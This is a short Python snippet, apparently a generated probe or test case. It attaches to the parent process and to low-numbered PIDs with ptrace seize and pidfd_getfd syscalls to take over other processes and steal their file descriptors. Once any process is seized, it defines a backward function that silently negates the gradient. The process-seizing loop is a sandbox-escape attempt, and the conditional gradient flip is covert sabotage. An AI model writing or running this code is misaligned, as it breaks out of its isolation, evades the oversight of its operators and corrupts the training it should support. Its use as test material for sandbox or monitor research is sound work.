# Tries: Take hold of other processes with ptrace and its relatives.
# Cell: negative_back
# Keeps: 35

import ctypes
import os

libc = ctypes.CDLL(None, use_errno=True)
candidates = {os.getppid(), *range(2, 40)} - {os.getpid(), 0}
seized = [pid for pid in candidates if libc.ptrace(0x4206, pid, 0, 0) == 0]
for pid in candidates:
    handle = libc.syscall(434, pid, 0)  # pidfd_open
    if handle > 0 and libc.syscall(438, handle, 0, 0) > 0:  # pidfd_getfd
        seized.append(pid)
if seized:

    def negative_back(grad_out, out, x):
        return -grad_out
